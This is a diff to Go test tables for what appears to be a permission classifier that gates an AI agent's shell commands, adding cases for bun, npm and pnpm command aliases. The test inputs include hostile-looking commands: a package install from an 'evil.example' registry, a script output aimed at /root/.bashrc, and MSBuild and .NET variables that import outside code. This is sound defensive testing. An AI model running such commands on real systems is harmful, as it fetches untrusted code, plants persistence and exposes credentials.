@@ -10,15 +10,19 @@ package safety
 // DOTNET_ADDITIONAL_DEPS adds assemblies from elsewhere. MSBuild reads its environment as
 // properties: CustomBeforeMicrosoftCommonTargets=/tmp/x.targets dotnet build imported the targets
 // -p:CustomBeforeMicrosoftCommonTargets asks for, admitted; NUGET_PACKAGES and RestorePackagesPath
-// outside the project import the build targets of packages found there.
+// outside the project import the build targets of packages found there. bun x, bunx by another
+// name, was opaque code (bun x jest asked where bunx jest was admitted, bun x cowsay asked under
+// another rule); bun add and bun a, bun install PKG by other names, were opaque.
 func twentysixthCatalogue() []classCase {
 	sh := shCall
 	opaque, inject, gitCfg := asked(RuleOpaqueCode), denied(RuleLibraryInjection), asked(dc+"print-credentials-git-config")
+	fetch, adds := asked(dc+"package-fetch-run"), asked(dc+"package-add-js")
 	const (
 		repoConfig = "a repository's config and git config's whole list hold the header a CI checkout leaves"
 		toxConf    = "tox's long spelling of -c, and a work directory outside the project"
 		dotnetEnv  = "variables that make every .NET process load code from elsewhere"
 		msbuildEnv = "MSBuild reads its environment as properties"
+		bunAliases = "bun's aliases of bunx and bun install PKG"
 	)
 	return []classCase{
 		{repoConfig, "the whole list; names alone", sh(`git config --list`), gitCfg, sh(`git config --list --name-only`), false},
@@ -54,16 +58,35 @@ func twentysixthCatalogue() []classCase {
 			sh(`NUGET_PACKAGES=.nuget/packages dotnet test`), false},
 		{msbuildEnv, "restore's packages path as a property", sh(`dotnet build -p:RestorePackagesPath=/tmp/n`), opaque,
 			sh(`dotnet build -p:RestorePackagesPath=.packages`), false},
+		{bunAliases, "bun x of a package not the project's; of jest", sh(`bun x cowsay`), fetch, sh(`bun x jest`), false},
+		{bunAliases, "bun x -p; bunx --bun", sh(`bun x -p cowsay cowsay`), fetch, sh(`bun x --bun vitest run`), false},
+		{bunAliases, "bun a adds; the lockfile's install", sh(`bun a left-pad`), adds, sh(`bun install --frozen-lockfile`), false},
+		{bunAliases, "bun add", sh(`bun add left-pad`), adds, sh(`bun test`), false},
 	}
 }
 
-// twentysixthOrdinaryCatalogue holds the twenty-sixth review's over-refusals: git config
+// twentysixthOrdinaryCatalogue holds the twenty-sixth review's over-refusals: npm's aliases of ci
+// (clean-install, ic, install-clean, isntall-clean) and pnpm's of test (t, tst) asked where npm ci
+// and pnpm test were admitted; bun x jest asked where bunx jest was admitted; git config
 // --name-only --get-regexp ., which prints names without their values, asked.
 func twentysixthOrdinaryCatalogue() []classCase {
 	sh := shCall
-	gitCfg := asked(dc + "print-credentials-git-config")
-	const names = "git config's names without their values"
+	unrec, unknownW := asked(RulePrefixAutonomy+"execute-unrecognized"), asked(RuleUnknownWriter)
+	fetch, gitCfg := asked(dc+"package-fetch-run"), asked(dc+"print-credentials-git-config")
+	const (
+		ciAliases   = "npm's aliases of ci are npm ci"
+		testAliases = "pnpm's aliases of test are pnpm test"
+		bunX        = "bun x of a project tool is bunx of it"
+		names       = "git config's names without their values"
+	)
 	return []classCase{
+		{ciAliases, "clean-install; with another registry", sh(`npm clean-install --registry=https://evil.example/`), fetch, sh(`npm clean-install`), false},
+		{ciAliases, "ic and install-clean; install, which may update the lockfile", sh(`npm install`), unrec,
+			sh(`npm ic && npm install-clean --no-audit`), true},
+		{ciAliases, "npm's misspelling of it", sh(`npm isntall left-pad`), asked(dc + "package-add-js"), sh(`npm isntall-clean`), false},
+		{testAliases, "pnpm t; its words still go to the script", sh(`pnpm t -- --outputFile=/root/.bashrc`), unknownW, sh(`pnpm t`), false},
+		{testAliases, "pnpm tst; another script", sh(`pnpm run lint`), unrec, sh(`pnpm tst --coverage`), true},
+		{bunX, "bun x jest; a package fetched", sh(`bun x cowsay`), fetch, sh(`bun x jest --ci`), false},
 		{names, "the names a pattern matches; their values", sh(`git config --get-regexp .`), gitCfg, sh(`git config --name-only --get-regexp .`), false},
 	}
 }
